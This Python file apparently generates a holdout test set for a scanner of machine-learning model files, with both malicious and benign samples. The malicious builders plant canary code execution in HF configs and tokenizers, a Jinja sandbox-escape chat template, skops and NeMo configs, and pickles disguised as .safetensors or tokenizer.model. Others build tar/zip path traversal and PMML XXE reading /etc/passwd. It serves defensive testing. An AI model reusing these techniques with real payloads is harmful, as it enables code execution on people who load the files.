@mal("m-hf-automap-other-repo", "hf directory", "auto_map pointing at code in another repository (repo--module.Class)")
def _hf_remote(dest: Path) -> None:
    hf_model_dir(
        dest,
        LLAMA_CONFIG
        | {"auto_map": {"AutoModelForCausalLM": "aispm-holdout/canary-code--modeling_canary.CanaryForCausalLM"}},
    )


@mal(
    "m-hf-tokenizer-automap", "hf directory", "tokenizer_config.json auto_map to a custom tokenizer file with a payload"
)
def _hf_tokenizer(dest: Path) -> None:
    hf_model_dir(dest)
    config = json.loads((dest / "tokenizer_config.json").read_text())
    config["auto_map"] = {"AutoTokenizer": ["tokenization_canary.CanaryTokenizer", None]}
    write_json(dest / "tokenizer_config.json", config)
    (dest / "tokenization_canary.py").write_text(
        "import os\nfrom transformers import PreTrainedTokenizer\n\n"
        "os.system('echo aispm-holdout-canary')\n\n\nclass CanaryTokenizer(PreTrainedTokenizer):\n    pass\n"
    )


@mal("m-hf-diffusers-custom-component", "hf directory (diffusers)", "model_index.json component from a local module")
def _hf_diffusers(dest: Path) -> None:
    write_json(
        dest / "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "scheduler": ["diffusers", "PNDMScheduler"],
            "text_encoder": ["transformers", "CLIPTextModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"],
            "unet": ["my_unet", "CanaryUNet"],
            "vae": ["diffusers", "AutoencoderKL"],
        },
    )
    (dest / "unet").mkdir()
    write_json(dest / "unet" / "config.json", {"_class_name": "CanaryUNet", "_diffusers_version": "0.30.0"})
    (dest / "unet" / "diffusion_pytorch_model.safetensors").write_bytes(
        safetensors_bytes({"conv_in.weight": np.zeros((4, 4, 3, 3), np.float32)})
    )
    (dest / "unet" / "my_unet.py").write_text(
        "import subprocess\nfrom diffusers import ModelMixin\n\n"
        "subprocess.run('echo aispm-holdout-canary', shell=True)\n"
        "\n\nclass CanaryUNet(ModelMixin):\n    pass\n"
    )


@mal("m-hf-bin-beside-safetensors", "hf directory", "safetensors weights plus a pytorch_model.bin with a payload")
def _hf_bin(dest: Path) -> None:
    hf_model_dir(dest)
    tensors = Tensors()
    weights = state_dict(tensors, {"model.embed_tokens.weight": (64, 16), "lm_head.weight": (64, 16)})
    weights["model.norm.weight"] = Call(G("os.system"), CMD)
    write_torch_zip(dest / "pytorch_model.bin", weights, tensors)


@mal("m-hf-chat-template-ssti", "hf directory", "tokenizer_config.json chat_template escaping the Jinja sandbox")
def _hf_template(dest: Path) -> None:
    hf_model_dir(
        dest,
        chat_template="{{ ().__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']"
        "('echo aispm-holdout-canary').read() }}" + CHATML,
    )


# skops


def skops_file(path: Path, patch: Callable[[dict[str, Any]], None]) -> None:
    """A real skops.io.dump of a FunctionTransformer pipeline, with its schema.json edited by ``patch``."""
    import skops.io as sio
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    x = RNG.random((30, 3))
    pipeline = make_pipeline(FunctionTransformer(np.log1p), StandardScaler()).fit(x)
    raw = path.with_suffix(".tmp")
    sio.dump(pipeline, raw)
    with zipfile.ZipFile(raw) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "schema.json":
                schema = json.loads(data)
                patch(schema)
                data = json.dumps(schema).encode()
            target.writestr(info, data)
    raw.unlink()


def _function_node(schema: dict[str, Any]) -> dict[str, Any]:
    return schema["content"]["content"]["steps"]["content"][0]["content"][1]["content"]["content"]["func"]


@mal("m-skops-function-posix-system", "skops", "FunctionTransformer func is a FunctionNode posix.system")
def _skops_function(dest: Path) -> None:
    skops_file(dest / "model.skops", lambda s: _function_node(s).update({"__module__": "posix", "__class__": "system"}))


@mal("m-skops-object-popen", "skops", "pipeline step is an ObjectNode of subprocess.Popen")
def _skops_object(dest: Path) -> None:
    def patch(schema: dict[str, Any]) -> None:
        step = schema["content"]["content"]["steps"]["content"][1]["content"][1]
        step["__class__"], step["__module__"] = "Popen", "subprocess"

    skops_file(dest / "pipeline.skops", patch)


@mal("m-skops-partial-runpy", "skops", "FunctionTransformer func is a PartialNode of runpy.run_path")
def _skops_partial(dest: Path) -> None:
    def patch(schema: dict[str, Any]) -> None:
        func = _function_node(schema)
        path = {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(CANARY + ".py"),
            "is_json": True,
        }
        func.clear()
        func.update(
            {
                "__class__": "partial",
                "__module__": "functools",
                "__loader__": "PartialNode",
                "content": {
                    "func": {"__class__": "run_path", "__module__": "runpy", "__loader__": "FunctionNode"},
                    "args": {
                        "__class__": "tuple",
                        "__module__": "builtins",
                        "__loader__": "TupleNode",
                        "content": [path],
                    },
                    "kwds": {
                        "__class__": "dict",
                        "__module__": "builtins",
                        "__loader__": "DictNode",
                        "content": {},
                        "key_types": {
                            "__class__": "list",
                            "__module__": "builtins",
                            "__loader__": "ListNode",
                            "content": [],
                        },
                    },
                    "namespace": {
                        "__class__": "str",
                        "__module__": "builtins",
                        "__loader__": "JsonNode",
                        "content": "null",
                        "is_json": True,
                    },
                },
            }
        )

    skops_file(dest / "model.skops", patch)


# NeMo


def nemo_config(**overrides: Any) -> dict[str, Any]:
    config: dict[str, Any] = {
        "sample_rate": 16000,
        "target": "nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
        "preprocessor": {
            "_target_": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
            "sample_rate": 16000,
            "normalize": "per_feature",
            "window_size": 0.025,
            "window_stride": 0.01,
            "features": 80,
            "n_fft": 512,
        },
        "encoder": {
            "_target_": "nemo.collections.asr.modules.ConformerEncoder",
            "feat_in": 80,
            "n_layers": 2,
            "d_model": 16,
        },
        "decoder": {"_target_": "nemo.collections.asr.modules.ConvASRDecoder", "feat_in": 16, "num_classes": 32},
        "optim": {"name": "adamw", "lr": 0.001, "sched": {"name": "CosineAnnealing", "warmup_steps": 1000}},
    }
    config.update(overrides)
    return config


class _WithTensors:
    """A checkpoint object with the tensors it refers to (write_nemo writes both)."""

    def __init__(self, obj: Any, tensors: Tensors) -> None:
        self.obj, self.tensors = obj, tensors


def write_nemo(path: Path, config: dict[str, Any], checkpoint: _WithTensors | None = None, mode: str = "w:") -> None:
    """A .nemo archive: model_config.yaml, model_weights.ckpt (a torch zip) and a vocabulary under './'."""
    import yaml

    work = path.parent / "nemo-build"
    work.mkdir()
    (work / "model_config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    if checkpoint is None:
        tensors = Tensors()
        layers = {"encoder.pre_encode.out.weight": (16, 80), "decoder.decoder_layers.0.weight": (32, 16, 1)}
        checkpoint = _WithTensors(state_dict(tensors, layers), tensors)
    write_torch_zip(work / "model_weights.ckpt", checkpoint.obj, checkpoint.tensors, folder="model_weights")
    (work / "tokenizer.vocab").write_text("\n".join(f"tok{i}\t0" for i in range(32)) + "\n")
    with tarfile.open(path, mode) as archive:
        for name in ("model_config.yaml", "model_weights.ckpt", "tokenizer.vocab"):
            archive.add(work / name, arcname=f"./{name}")
    shutil.rmtree(work)


@mal("m-nemo-target-check-output", "nemo", "Hydra _target_: subprocess.check_output with _args_ in the preprocessor")
def _nemo_target(dest: Path) -> None:
    config = nemo_config()
    config["preprocessor"] = {"_target_": "subprocess.check_output", "_args_": [["sh", "-c", CMD]]}
    write_nemo(dest / "stt_en_conformer_ctc_small.nemo", config)


@mal("m-nemo-gz-target-exec", "nemo (tar.gz)", "gzip .nemo, Hydra _target_: builtins.exec in optim.sched")
def _nemo_gz(dest: Path) -> None:
    config = nemo_config()
    config["optim"]["sched"] = {"_target_": "builtins.exec", "_args_": [SRC]}
    write_nemo(dest / "model.nemo", config, mode="w:gz")


@mal("m-nemo-weights-import-chain", "nemo", "benign config, model_weights.ckpt with __import__('os').system chain")
def _nemo_weights(dest: Path) -> None:
    tensors = Tensors()
    weights = state_dict(tensors, {"encoder.pre_encode.out.weight": (16, 80)})
    weights["decoder.bias"] = getattr_call(Call(G("builtins.__import__"), "os"), "system", CMD)
    write_nemo(dest / "asr_model.nemo", nemo_config(), checkpoint=_WithTensors(weights, tensors))


# PMML

PMML_HEADER = (
    '<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">\n'
    '\t<Header>\n\t\t<Application name="SkLearn2PMML package" version="0.101.0"/>\n'
    "\t\t<Timestamp>2024-03-11T09:21:44Z</Timestamp>\n\t</Header>\n"
)
PMML_BODY = (
    '\t<DataDictionary>\n\t\t<DataField name="y" optype="categorical" dataType="integer">\n'
    '\t\t\t<Value value="0"/>\n\t\t\t<Value value="1"/>\n\t\t</DataField>\n'
    '\t\t<DataField name="x1" optype="continuous" dataType="double"/>\n\t</DataDictionary>\n'
    '\t<RegressionModel functionName="classification" algorithmName="sklearn.linear_model._logistic.LogisticRegression"'
    ' normalizationMethod="logit">\n\t\t<MiningSchema>\n\t\t\t<MiningField name="y" usageType="target"/>\n'
    '\t\t\t<MiningField name="x1"/>\n\t\t</MiningSchema>\n\t\t<RegressionTable intercept="-0.12" targetCategory="1">\n'
    '\t\t\t<NumericPredictor name="x1" coefficient="1.73"/>\n\t\t</RegressionTable>\n'
    '\t\t<RegressionTable intercept="0.0" targetCategory="0"/>\n\t</RegressionModel>\n</PMML>\n'
)
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


@mal("m-pmml-parameter-entity", "pmml", "parameter entity loading a remote DTD (out-of-band XXE)")
def _pmml_param(dest: Path) -> None:
    doctype = f'<!DOCTYPE PMML [\n  <!ENTITY % remote SYSTEM "{URL}.dtd">\n  %remote;\n]>\n'
    (dest / "model.pmml").write_text(XML_DECL.replace(' standalone="yes"', "") + doctype + PMML_HEADER + PMML_BODY)


@mal(
    "m-pmml-billion-laughs",
    "pmml",
    "nested internal entities expanding exponentially (billion-laughs pattern, 10^6 here)",
)
def _pmml_laughs(dest: Path) -> None:
    entities = ['  <!ENTITY lol "lol">']
    entities += [
        f'  <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 7)
    ]
    doctype = "<!DOCTYPE PMML [\n" + "\n".join(entities) + "\n]>\n"
    header = PMML_HEADER.replace("<Timestamp>", "<Annotation>&lol6;</Annotation>\n\t\t<Timestamp>")
    (dest / "model.pmml").write_text(XML_DECL.replace(' standalone="yes"', "") + doctype + header + PMML_BODY)


@mal("m-pmml-xinclude", "pmml", "XInclude of file:///etc/passwd inside an Extension element")
def _pmml_xinclude(dest: Path) -> None:
    body = PMML_BODY.replace(
        "\t<DataDictionary>",
        '\t<Extension name="notes"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/></Extension>\n\t<DataDictionary>',
    )
    (dest / "model.xml").write_text(XML_DECL + PMML_HEADER + body)


# archives, wrappers and misleading names


@mal("m-wrap-tar-hf-dir", "tar (hf directory)", "uncompressed tar of an HF model dir whose pytorch_model.bin runs exec")
def _wrap_tar(dest: Path) -> None:
    work = dest.parent / f"{dest.name}-build"
    work.mkdir()
    write_json(work / "config.json", {"architectures": ["BertForMaskedLM"], "model_type": "bert"})
    tensors = Tensors()
    weights = state_dict(tensors, BERT_LAYERS)
    weights["cls.predictions.bias"] = Call(G("builtins.exec"), SRC)
    write_torch_zip(work / "pytorch_model.bin", weights, tensors)
    tar_dir(work, dest / "bert-finetuned.tar", "w", arcname="bert-finetuned")
    shutil.rmtree(work)


@mal("m-wrap-tarbz2-joblib", "tar.bz2 (joblib)", "tar.bz2 holding a joblib model with subprocess.getstatusoutput")
def _wrap_tarbz2(dest: Path) -> None:
    work = dest.parent / f"{dest.name}-build"
    work.mkdir()
    joblib_dump({"model": sk_model(), "hook": Call(G("subprocess.getstatusoutput"), CMD)}, work / "model.joblib")
    (work / "README.md").write_text("# churn model\n")
    tar_dir(work, dest / "release.tar.bz2", "w:bz2", arcname="release")
    shutil.rmtree(work)


@mal("m-wrap-xz-pickle", "xz (pickle)", "model.pkl.xz: an xz-compressed pickle with os.system")
def _wrap_xz(dest: Path) -> None:
    (dest / "model.pkl.xz").write_bytes(lzma.compress(dumps(model_dict(Call(G("os.system"), CMD)), 4)))


@mal("m-wrap-zip-in-zip-torch", "zip (nested pytorch)", "export.zip holding a PyTorch zip checkpoint with os.system")
def _wrap_nested(dest: Path) -> None:
    tensors = Tensors()
    weights = state_dict(tensors, RESNET_BLOCK)
    weights["fc.weight"] = Call(G("os.system"), CMD)
    inner = dest / "model.pt"
    write_torch_zip(inner, weights, tensors)
    with zipfile.ZipFile(dest / "export.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.write(inner, "export/model.pt")
        archive.writestr("export/labels.txt", "cat\ndog\n")
    inner.unlink()


@mal(
    "m-wrap-tar-slip",
    "tar.gz",
    "tar.gz with a member named ../../../tmp/aispm-holdout-canary.sh (path traversal on extraction)",
)
def _wrap_tar_slip(dest: Path) -> None:
    with tarfile.open(dest / "model.tar.gz", "w:gz") as archive:
        for name, data in (("model/config.json", b"{}"), ("../../../tmp/aispm-holdout-canary.sh", f"{CMD}\n".encode())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


@mal("m-wrap-zip-slip", "zip", "zip with a member named ../../../../tmp/aispm-holdout-canary.pth (path traversal)")
def _wrap_zip_slip(dest: Path) -> None:
    with zipfile.ZipFile(dest / "weights.zip", "w") as archive:
        archive.writestr("weights/model.safetensors", safetensors_bytes({"w": np.zeros(4, np.float32)}))
        archive.writestr("../../../../tmp/aispm-holdout-canary.pth", f"import os; os.system('{CMD}')\n")


@mal("m-name-safetensors-pickle", "pickle named .safetensors", "a pickle with exec saved as model.safetensors")
def _name_safetensors(dest: Path) -> None:
    (dest / "model.safetensors").write_bytes(dumps(Call(G("builtins.exec"), SRC), 4))


@mal(
    "m-name-tokenizer-model", "pickle named tokenizer.model", "a pickle with subprocess.Popen saved as tokenizer.model"
)
def _name_tokenizer(dest: Path) -> None:
    (dest / "tokenizer.model").write_bytes(
        dumps(Call(G("subprocess.Popen"), CMD, -1, None, None, None, None, None, True, True), 2)
    )


@mal(
    "m-name-msgpack-torch",
    "pytorch zip named .msgpack",
    "a PyTorch zip checkpoint with posix.system as flax_model.msgpack",
)
def _name_msgpack(dest: Path) -> None:
    tensors = Tensors()
    weights = state_dict(tensors, BERT_LAYERS)
    weights["classifier.bias"] = Call(G("posix.system"), CMD)
    write_torch_zip(dest / "flax_model.msgpack", weights, tensors, folder="archive")


# --- benign: as the libraries write them --------------------------------------------------------------------------


def training_arguments() -> Obj:
    """transformers' TrainingArguments as Trainer saves it in training_args.bin: a dataclass with enum fields."""

    def enum(module: str, name: str, value: str) -> Call:
        return Call(Ref(module, name), value)

    state = {
        "output_dir": "./results",
        "overwrite_output_dir": False,
        "do_train": True,
        "do_eval": True,
        "eval_strategy": enum("transformers.trainer_utils", "IntervalStrategy", "steps"),
        "per_device_train_batch_size": 16,
        "per_device_eval_batch_size": 64,
        "learning_rate": 5e-05,
        "weight_decay": 0.01,
        "num_train_epochs": 3.0,
        "max_steps": -1,
        "lr_scheduler_type": enum("transformers.trainer_utils", "SchedulerType", "linear"),
        "warmup_ratio": 0.0,
        "logging_dir": "./logs",
        "logging_strategy": enum("transformers.trainer_utils", "IntervalStrategy", "steps"),
        "save_strategy": enum("transformers.trainer_utils", "IntervalStrategy", "steps"),
        "seed": 42,
        "fp16": False,
        "optim": enum("transformers.training_args", "OptimizerNames", "adamw_torch"),
        "report_to": ["tensorboard"],
        "push_to_hub": False,
        "hub_strategy": enum("transformers.trainer_utils", "HubStrategy", "every_save"),
        "_n_gpu": 0,
        "__cached__setup_devices": Call(Ref("torch", "device"), "cpu"),
    }
    return Obj("transformers.training_args", "TrainingArguments", state)


def nn_module(
    module: str, name: str, params: dict[str, Any], modules: dict[str, Any] | None = None, **extra: Any
) -> Obj:
    state = {
        "training": False,
        "_parameters": collections.OrderedDict(params),
        "_buffers": collections.OrderedDict(),
        "_non_persistent_buffers_set": set(),
        "_backward_pre_hooks": collections.OrderedDict(),
        "_backward_hooks": collections.OrderedDict(),
        "_forward_hooks": collections.OrderedDict(),
        "_forward_pre_hooks": collections.OrderedDict(),
        "_state_dict_hooks": collections.OrderedDict(),
        "_load_state_dict_pre_hooks": collections.OrderedDict(),
        "_modules": collections.OrderedDict(modules or {}),
        **extra,
    }
    return Obj(module, name, state)


def yolo_checkpoint(tensors: Tensors) -> dict[str, Any]:
    """A YOLOv5-style checkpoint: the whole model pickled (classes from the repo's models package), not a state dict."""
    conv = nn_module(
        "torch.nn.modules.conv",
        "Conv2d",
        {"weight": tensors.parameter((16, 3, 3, 3)), "bias": None},
        in_channels=3,
        out_channels=16,
        kernel_size=(3, 3),
        stride=(1, 1),
        padding=(1, 1),
    )
    bn = nn_module(
        "torch.nn.modules.batchnorm",
        "BatchNorm2d",
        {"weight": tensors.parameter((16,)), "bias": tensors.parameter((16,))},
        eps=0.001,
        momentum=0.03,
    )
    act = nn_module("torch.nn.modules.activation", "SiLU", {}, inplace=True)
    block = nn_module("models.common", "Conv", {}, {"conv": conv, "bn": bn, "act": act})
    detect = nn_module("models.yolo", "Detect", {}, {}, nc=80, no=85, nl=3, na=3, stride=tensors.tensor((3,)))
    seq = nn_module("torch.nn.modules.container", "Sequential", {}, {"0": block, "1": detect})
    model = nn_module(
        "models.yolo",
        "DetectionModel",
        {},
        {"model": seq},
        yaml={"nc": 80, "depth_multiple": 0.33},
        names={0: "person", 1: "bicycle"},
        stride=tensors.tensor((3,)),
    )
    return {
        "epoch": -1,
        "best_fitness": None,
        "model": model,
        "ema": None,
        "updates": None,
        "optimizer": None,
        "opt": {"weights": "yolov5s.pt", "imgsz": 640},
        "git": {"remote": "", "branch": "master"},
        "date": "2023-09-14T10:02:11.118205",
    }


@ben("b-sklearn-pipeline-pickle", "pickle (protocol 5)", "StandardScaler + LogisticRegression Pipeline, pickle.dumps")
def _b_pipeline(dest: Path) -> None:
    (dest / "model.pkl").write_bytes(pickle.dumps(sk_model("pipeline"), protocol=5))


@ben("b-sklearn-forest-joblib", "joblib (uncompressed)", "RandomForestClassifier, joblib.dump")
def _b_forest(dest: Path) -> None:
    import joblib
    from sklearn.ensemble import RandomForestClassifier

    x = RNG.standard_normal((80, 5))
    joblib.dump(RandomForestClassifier(n_estimators=5, random_state=0).fit(x, x[:, 0] > 0), dest / "rf.joblib")


@ben("b-sklearn-gbr-joblib-zlib", "joblib (zlib)", "GradientBoostingRegressor, joblib compress=3")
def _b_gbr(dest: Path) -> None:
    import joblib
    from sklearn.ensemble import GradientBoostingRegressor

    x = RNG.standard_normal((80, 4))
    joblib.dump(GradientBoostingRegressor(n_estimators=10).fit(x, x[:, 0] * 2), dest / "gbr.joblib", compress=3)


@ben("b-sklearn-hgb-joblib-lz4", "joblib (lz4)", "HistGradientBoostingClassifier, joblib lz4")
def _b_hgb(dest: Path) -> None:
    import joblib
    from sklearn.ensemble import HistGradientBoostingClassifier

    x = RNG.standard_normal((120, 4))
    model = HistGradientBoostingClassifier(max_iter=10).fit(x, x[:, 1] > 0)
    joblib.dump(model, dest / "hgb.joblib.lz4", compress="lz4")


@ben("b-sklearn-kmeans-joblib-gzip", "joblib (gzip)", "KMeans, joblib gzip")
def _b_kmeans(dest: Path) -> None:
    import joblib
    from sklearn.cluster import KMeans

    joblib.dump(
        KMeans(n_clusters=3, n_init=2, random_state=0).fit(RNG.standard_normal((60, 2))),
        dest / "kmeans.pkl.gz",
        compress=("gzip", 3),
    )


@ben(
    "b-sklearn-columntransformer",
    "pickle (protocol 5)",
    "ColumnTransformer with OneHotEncoder and FunctionTransformer(np.log1p)",
)
def _b_column(dest: Path) -> None:
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.linear_model import Ridge
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder

    frame = pd.DataFrame({"city": ["a", "b", "c", "a"] * 10, "income": RNG.random(40) * 1000})
    pre = ColumnTransformer(
        [("cat", OneHotEncoder(handle_unknown="ignore"), ["city"]), ("num", FunctionTransformer(np.log1p), ["income"])]
    )
    model = Pipeline([("pre", pre), ("ridge", Ridge())]).fit(frame, RNG.random(40))
    (dest / "model.pkl").write_bytes(pickle.dumps(model, protocol=5))


@ben(
    "b-sklearn-text-cloudpickle",
    "pickle (cloudpickle)",
    "TfidfVectorizer + MultinomialNB saved by cloudpickle (MLflow style)",
)
def _b_text(dest: Path) -> None:
    import cloudpickle
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.naive_bayes import MultinomialNB
    from sklearn.pipeline import make_pipeline

    docs = ["good movie", "bad film", "great plot", "awful acting", "loved it", "hated it"]
    model = make_pipeline(TfidfVectorizer(ngram_range=(1, 2)), MultinomialNB()).fit(docs, [1, 0, 1, 0, 1, 0])
    (dest / "model.pkl").write_bytes(cloudpickle.dumps(model))
    write_json(
        dest / "MLmodel.json",
        {"flavors": {"sklearn": {"pickled_model": "model.pkl", "serialization_format": "cloudpickle"}}},
    )


@ben("b-numpy-dict-pickle", "pickle (protocol 4)", "dict of numpy arrays, numpy scalars and dtypes")
def _b_numpy_dict(dest: Path) -> None:
    value = {
        "mean": np.float32(0.5),
        "std": np.float64(1.25),
        "count": np.int64(1000),
        "dtype": np.dtype("float16"),
        "embeddings": RNG.standard_normal((16, 8)).astype(np.float32),
        "mask": np.array([True, False, True]),
        "vocab": np.array(["a", "b", "c"]),
    }
    (dest / "stats.pkl").write_bytes(pickle.dumps(value, protocol=4))


@ben("b-pandas-frame-pickle", "pickle (protocol 5)", "pandas DataFrame with a tz-aware DatetimeIndex and a Categorical")
def _b_pandas(dest: Path) -> None:
    import pandas as pd

    index = pd.date_range("2024-01-01", periods=20, freq="h", tz="Europe/Paris")
    frame = pd.DataFrame({"load": RNG.random(20), "site": pd.Categorical(["north", "south"] * 10)}, index=index)
    frame.to_pickle(dest / "features.pkl")


@ben(
    "b-stdlib-values-pickle",
    "pickle (protocol 4)",
    "metadata with datetime, Decimal, Fraction, UUID, PosixPath, re, collections",
)
def _b_stdlib(dest: Path) -> None:
    value = {
        "created": dt.datetime(2024, 5, 1, 12, 30, tzinfo=dt.UTC),
        "day": dt.date(2024, 5, 1),
        "elapsed": dt.timedelta(hours=3),
        "price": decimal.Decimal("19.99"),
        "ratio": fractions.Fraction(3, 7),
        "run_id": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "data_dir": pathlib.PurePosixPath("/data/train"),
        "pattern": re.compile(r"\w+"),
        "counts": collections.Counter("mississippi"),
        "groups": collections.defaultdict(list, {"a": [1]}),
        "recent": collections.deque([1, 2, 3], maxlen=5),
        "order": collections.OrderedDict(a=1, b=2),
        "tags": frozenset({"nlp", "prod"}),
        "z": complex(1, 2),
        "raw": bytearray(b"\x00\x01"),
        "slice": slice(0, 10, 2),
        "range": range(5),
    }
    (dest / "meta.pkl").write_bytes(pickle.dumps(value, protocol=4))


@ben("b-numpy-npy", "numpy .npy", "float32 embedding matrix, np.save")
def _b_npy(dest: Path) -> None:
    np.save(dest / "embeddings.npy", RNG.standard_normal((100, 32)).astype(np.float32))


@ben("b-numpy-npz-compressed", "numpy .npz", "np.savez_compressed of several arrays")
def _b_npz(dest: Path) -> None:
    np.savez_compressed(dest / "weights.npz", W1=RNG.standard_normal((8, 8)), b1=np.zeros(8), idx=np.arange(10))


@ben("b-safetensors", "safetensors", "safetensors file with format metadata")
def _b_safetensors(dest: Path) -> None:
    (dest / "model.safetensors").write_bytes(safetensors_bytes(llama_tensors(), {"format": "pt"}))


@ben("b-hf-sharded-safetensors", "hf directory", "HF model dir: sharded safetensors with an index, tokenizer, configs")
def _b_hf(dest: Path) -> None:
    hf_model_dir(dest)
    (dest / "model.safetensors").unlink()
    tensors = llama_tensors()
    names = list(tensors)
    index: dict[str, Any] = {"metadata": {"total_size": sum(t.nbytes for t in tensors.values())}, "weight_map": {}}
    for i, part in enumerate((names[:3], names[3:]), start=1):
        shard = f"model-0000{i}-of-00002.safetensors"
        (dest / shard).write_bytes(safetensors_bytes({k: tensors[k] for k in part}, {"format": "pt"}))
        index["weight_map"].update(dict.fromkeys(part, shard))
    write_json(dest / "model.safetensors.index.json", index)


QWEN_TOOLS = (
    "{%- if tools %}\n    {{- '<|im_start|>system\\n' }}\n    {%- if messages[0]['role'] == 'system' %}\n"
    "        {{- messages[0]['content'] }}\n    {%- else %}\n"
    "        {{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.' }}\n    {%- endif %}\n"
    '    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\n'
    'You are provided with function signatures within <tools></tools> XML tags:\\n<tools>" }}\n'
    '    {%- for tool in tools %}\n        {{- "\\n" }}\n        {{- tool | tojson }}\n    {%- endfor %}\n'
    '    {{- "\\n</tools>\\n\\nFor each function call, return a json object with function name and arguments '
    'within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"arguments\\": '
    '<args-json-object>}\\n</tool_call><|im_end|>\\n" }}\n{%- else %}\n'
    "    {%- if messages[0]['role'] == 'system' %}\n"
    "        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}\n    {%- endif %}\n"
    "{%- endif %}\n{%- for message in messages %}\n"
    '    {%- if (message.role == "user") or (message.role == "system" and not loop.first) %}\n'
    "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}\n"
    "    {%- elif message.role == \"assistant\" %}\n        {{- '<|im_start|>' + message.role }}\n"
    "        {%- if message.content %}\n            {{- '\\n' + message.content }}\n        {%- endif %}\n"
    "        {%- for tool_call in message.tool_calls %}\n            {%- if tool_call.function is defined %}\n"
    "                {%- set tool_call = tool_call.function %}\n            {%- endif %}\n"
    '            {{- \'\\n<tool_call>\\n{"name": "\' }}\n            {{- tool_call.name }}\n'
    '            {{- \'", "arguments": \' }}\n            {{- tool_call.arguments | tojson }}\n'
    "            {{- '}\\n</tool_call>' }}\n        {%- endfor %}\n        {{- '<|im_end|>\\n' }}\n"
    '    {%- elif message.role == "tool" %}\n'
    '        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}\n'
    "            {{- '<|im_start|>user' }}\n        {%- endif %}\n"
    "        {{- '\\n<tool_response>\\n' }}\n        {{- message.content }}\n        {{- '\\n</tool_response>' }}\n"
    '        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}\n'
    "            {{- '<|im_end|>\\n' }}\n        {%- endif %}\n    {%- endif %}\n{%- endfor %}\n"
    "{%- if add_generation_prompt %}\n    {{- '<|im_start|>assistant\\n' }}\n{%- endif %}\n"
)
DEEPSEEK_R1 = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='') %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}"
    "{%- endif %}{%- endfor %}{{bos_token}}{{ns.system_prompt}}{%- for message in messages %}"
    "{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}"
    "{{'<\uff5cUser\uff5c>' + message['content']}}{%- endif %}"
    "{%- if message['role'] == 'assistant' and message['content'] is not none %}{% set content = message['content'] %}"
    "{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}"
    "{{'<\uff5cAssistant\uff5c>' + content + '<\uff5cend▁of▁sentence\uff5c>'}}{%- endif %}{%- endfor -%}"
    "{% if add_generation_prompt and not ns.is_tool %}{{'<\uff5cAssistant\uff5c><think>\\n'}}{% endif %}"
)


@ben("b-gguf-llama3", "gguf", "GGUF with the Llama 3 instruct chat template")
def _b_gguf_llama3(dest: Path) -> None:
    write_gguf(dest / "llama-3-8b-instruct.Q4_K_M.gguf", {"default": LLAMA3})


@ben("b-gguf-qwen-tools", "gguf", "GGUF with the Qwen 2.5 tool-calling template (tojson, loop, set)")
def _b_gguf_qwen(dest: Path) -> None:
    write_gguf(dest / "qwen2.5-1.5b-instruct-q8_0.gguf", {"default": QWEN_TOOLS}, arch="qwen2")


@ben(
    "b-gguf-deepseek-r1",
    "gguf",
    "GGUF with a DeepSeek-R1 style template (namespace, str.split), plus a named rag template",
)
def _b_gguf_deepseek(dest: Path) -> None:
    write_gguf(
        dest / "DeepSeek-R1-Distill-Qwen-1.5B-Q4_K_M.gguf", {"default": DEEPSEEK_R1, "rag": CHATML}, arch="qwen2"
    )


@ben("b-onnx-inline", "onnx", "ONNX MLP with inline initializers (PyTorch exporter metadata)")
def _b_onnx(dest: Path) -> None:
    import onnx

    onnx.save_model(onnx_mlp(), str(dest / "model.onnx"))


@ben("b-onnx-external-same-dir", "onnx (external data)", "ONNX with external data model.onnx_data beside it")
def _b_onnx_ext(dest: Path) -> None:
    import onnx

    onnx.save_model(
        onnx_mlp(),
        str(dest / "model.onnx"),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="model.onnx_data",
        size_threshold=0,
    )


@ben("b-onnx-external-subdir", "onnx (external data)", "ONNX with one external file per tensor in a weights/ subfolder")
def _b_onnx_subdir(dest: Path) -> None:
    import onnx
    from onnx.external_data_helper import convert_model_to_external_data

    model = onnx_mlp()
    convert_model_to_external_data(model, all_tensors_to_one_file=False, size_threshold=0)
    for tensor in model.graph.initializer:
        for entry in tensor.external_data:
            if entry.key == "location":
                entry.value = f"weights/{tensor.name}.bin"
    (dest / "weights").mkdir()
    onnx.save_model(model, str(dest / "model.onnx"))


